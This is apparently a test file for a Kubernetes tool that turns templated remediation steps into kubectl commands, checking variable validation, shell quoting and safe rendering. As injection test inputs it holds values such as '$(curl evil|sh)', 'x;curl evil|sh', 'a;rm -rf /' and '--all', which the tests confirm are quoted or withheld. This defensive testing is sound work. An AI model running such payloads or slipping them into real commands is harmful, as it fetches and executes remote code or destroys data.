import assert from 'node:assert/strict';
import {
  namespaceFlag,
  renderSteps,
  type Step,
  shellQuote,
  TEMPLATE_VARIABLES,
  type TemplateValues,
  validateTemplates,
} from '../../../src/detections/steps.js';

describe('validateTemplates', () => {
  const cases: { name: string; steps: Step[]; errors: RegExp[] }[] = [
    { name: 'no variables', steps: [{ title: 'Look', command: 'kubectl get pods' }], errors: [] },
    {
      name: 'every known variable, bare',
      steps: [{ title: 'All', command: TEMPLATE_VARIABLES.map((v) => `{{${v}}}`).join(' ') }],
      errors: [],
    },
    {
      name: 'spaces inside braces',
      steps: [{ title: '{{ name }}', command: 'kubectl get ns {{ name }}' }],
      errors: [],
    },
    {
      name: 'unknown variable in a title',
      steps: [{ title: 'Hi {{user}}' }],
      errors: [/step 1 .* title: unknown variable \{\{user\}\}/],
    },
    {
      name: 'unknown variable in a detail',
      steps: [{ title: 'x', detail: '{{Name}}' }],
      errors: [/unknown variable \{\{Name\}\}/],
    },
    {
      name: 'variable inside single quotes',
      steps: [{ title: 'x', command: "kubectl get cm -o jsonpath='{.data.{{name}}}'" }],
      errors: [/step 1 .* command: \{\{name\}\} is inside quotes/],
    },
    {
      name: 'variable inside double quotes',
      steps: [{ title: 'x', command: 'grep "{{name}}"' }],
      errors: [/inside quotes/],
    },
    {
      name: 'variable after a closed quote',
      steps: [{ title: 'x', command: "jq -r '.a' --arg n {{name}}" }],
      errors: [],
    },
    {
      name: 'escaped quote outside quotes',
      steps: [{ title: 'x', command: "echo \\' {{name}}" }],
      errors: [],
    },
    {
      name: 'quotes in a detail are fine',
      steps: [{ title: 'x', detail: "the '{{name}}' role" }],
      errors: [],
    },
    {
      name: 'numbers the step that is wrong',
      steps: [{ title: 'ok' }, { title: 'bad', command: 'x {{nope}}' }],
      errors: [/^step 2 \("bad"\) command: unknown variable \{\{nope\}\}/],
    },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const got = validateTemplates(c.steps);
      assert.equal(got.length, c.errors.length, got.join('\n'));
      c.errors.forEach((re, i) => {
        assert.match(got[i] ?? '', re);
      });
    });
  }
});

describe('shellQuote and namespaceFlag', () => {
  const cases: { name: string; value: string; want: string }[] = [
    { name: 'plain name', value: 'web-1.example', want: 'web-1.example' },
    { name: 'colon and slash', value: 'system:serviceaccount:ns/sa', want: 'system:serviceaccount:ns/sa' },
    { name: 'empty', value: '', want: "''" },
    { name: 'command substitution', value: '$(curl evil|sh)', want: "'$(curl evil|sh)'" },
    { name: 'single quote', value: "it's", want: "'it'\\''s'" },
    { name: 'semicolon', value: 'a;rm -rf /', want: "'a;rm -rf /'" },
    { name: 'leading equals (zsh expansion)', value: '=ls', want: "'=ls'" },
  ];
  for (const c of cases) it(c.name, () => assert.equal(shellQuote(c.value), c.want));

  it('builds -n NS and nothing for cluster-scoped', () => {
    assert.equal(namespaceFlag('shop'), '-n shop');
    assert.equal(namespaceFlag(''), '');
    assert.equal(namespaceFlag(undefined), '');
  });
});

describe('renderSteps', () => {
  const values: TemplateValues = {
    name: 'web',
    namespace: 'shop',
    resource: 'ingresses.networking.k8s.io',
    alert: 'a-1',
  };
  const cases: { name: string; step: Step; values?: TemplateValues; want: Step }[] = [
    {
      name: 'fills every field',
      step: {
        title: 'Read {{name}}',
        detail: 'in {{namespace}}',
        command: 'kubectl get {{resource}} -n {{namespace}} {{name}}',
      },
      want: {
        title: 'Read web',
        detail: 'in shop',
        command: 'kubectl get ingresses.networking.k8s.io -n shop web',
      },
    },
    {
      name: 'derives nsFlag from namespace',
      step: { title: 't', command: 'kubectl get {{resource}} {{nsFlag}} {{name}}' },
      want: { title: 't', command: 'kubectl get ingresses.networking.k8s.io -n shop web' },
    },
    {
      name: 'an empty nsFlag leaves no double space',
      step: { title: 't', command: 'kubectl get clusterroles {{nsFlag}} {{name}} -o yaml' },
      values: { name: 'admin' },
      want: { title: 't', command: 'kubectl get clusterroles admin -o yaml' },
    },
    {
      name: 'quotes unsafe values in commands only',
      step: { title: 'Delete {{name}}', command: 'kubectl delete clusterrole {{name}}' },
      values: { name: 'x;curl evil|sh' },
      want: { title: 'Delete x;curl evil|sh', command: "kubectl delete clusterrole 'x;curl evil|sh'" },
    },
    {
      name: 'escapes control characters everywhere',
      step: { title: '{{name}}', command: 'kubectl get clusterrole {{name}}' },
      values: { name: 'a\u001b[2Jb' },
      want: { title: 'a\\u001b[2Jb', command: "kubectl get clusterrole 'a\\u001b[2Jb'" },
    },
    {
      name: 'withholds a command whose value starts with a dash',
      step: { title: 'Delete', detail: 'Removes it.', command: 'kubectl delete clusterrole {{name}}' },
      values: { name: '--all' },
      want: {
        title: 'Delete',
        detail:
          'Removes it.\nCommand withheld: the value "--all" starts with "-" and kubectl would read it as a flag.',
      },
    },
    {
      name: 'leaves unknown variables as they are',
      step: { title: '{{unknown}} {{name}}' },
      want: { title: '{{unknown}} web' },
    },
    {
      name: 'a missing value renders empty',
      step: { title: 'as {{serviceAccount}}.', command: 'echo {{serviceAccount}} done' },
      want: { title: 'as .', command: 'echo done' },
    },
  ];
  for (const c of cases)
    it(c.name, () => assert.deepEqual(renderSteps([c.step], c.values ?? values), [c.want]));

  it('does not change its input', () => {
    const steps: Step[] = [{ title: '{{name}}' }];
    renderSteps(steps, values);
    assert.deepEqual(steps, [{ title: '{{name}}' }]);
  });
});

describe('templates: labels and actor', () => {
  const validation: { name: string; steps: Step[]; errors: RegExp[] }[] = [
    {
      name: 'labels.KEY',
      steps: [{ title: '{{labels.app}}', command: 'echo {{labels.app.kubernetes.io/name}}' }],
      errors: [],
    },
    { name: 'actor.fieldManager', steps: [{ title: 'by {{actor.fieldManager}}' }], errors: [] },
    {
      name: 'an unknown actor field',
      steps: [{ title: '{{actor.username}}' }],
      errors: [/unknown variable \{\{actor\.username\}\}/],
    },
    {
      name: 'labels without a key (not a variable: left as text)',
      steps: [{ title: '{{labels.}}' }],
      errors: [],
    },
    {
      name: 'labels with an invalid key',
      steps: [{ title: '{{labels.-x}}' }],
      errors: [/unknown variable \{\{labels\.-x\}\}/],
    },
    {
      name: 'a dotted unknown variable',
      steps: [{ title: '{{name.x}}' }],
      errors: [/unknown variable \{\{name\.x\}\}/],
    },
    { name: 'a prototype name', steps: [{ title: '{{constructor}}' }], errors: [/unknown variable/] },
    {
      name: 'lists the forms it knows',
      steps: [{ title: '{{x}}' }],
      errors: [/known: .*actor\.fieldManager, labels\.KEY$/],
    },
  ];
  for (const c of validation)
    it(`validates ${c.name}`, () => {
      const got = validateTemplates(c.steps);
      assert.equal(got.length, c.errors.length, got.join('\n'));
      for (const [i, re] of c.errors.entries()) assert.match(got[i] ?? '', re);
    });

  const values: TemplateValues = {
    name: 'web',
    fieldManager: 'argocd-controller',
    labels: { team: 'payments', 'app.kubernetes.io/name': 'shop front' },
  };
  const rendering: { name: string; step: Step; want: Step }[] = [
    {
      name: 'a label in text and, quoted, in a command',
      step: { title: 'Team {{labels.team}}', command: 'echo {{labels.app.kubernetes.io/name}}' },
      want: { title: 'Team payments', command: "echo 'shop front'" },
    },
    {
      name: 'an absent label is empty',
      step: { title: 'Owner: {{labels.owner}}.' },
      want: { title: 'Owner: .' },
    },
    {
      name: 'actor.fieldManager is fieldManager',
      step: { title: '{{actor.fieldManager}} = {{fieldManager}}' },
      want: { title: 'argocd-controller = argocd-controller' },
    },
  ];
  for (const c of rendering)
    it(`renders ${c.name}`, () => assert.deepEqual(renderSteps([c.step], values), [c.want]));

  it('withholds a command whose label value starts with "-"', () => {
    const [out] = renderSteps([{ title: 't', command: 'kubectl get ns {{labels.x}}' }], {
      labels: { x: '--all' },
    });
    assert.equal(out?.command, undefined);
    assert.match(out?.detail ?? '', /Command withheld/);
  });
});
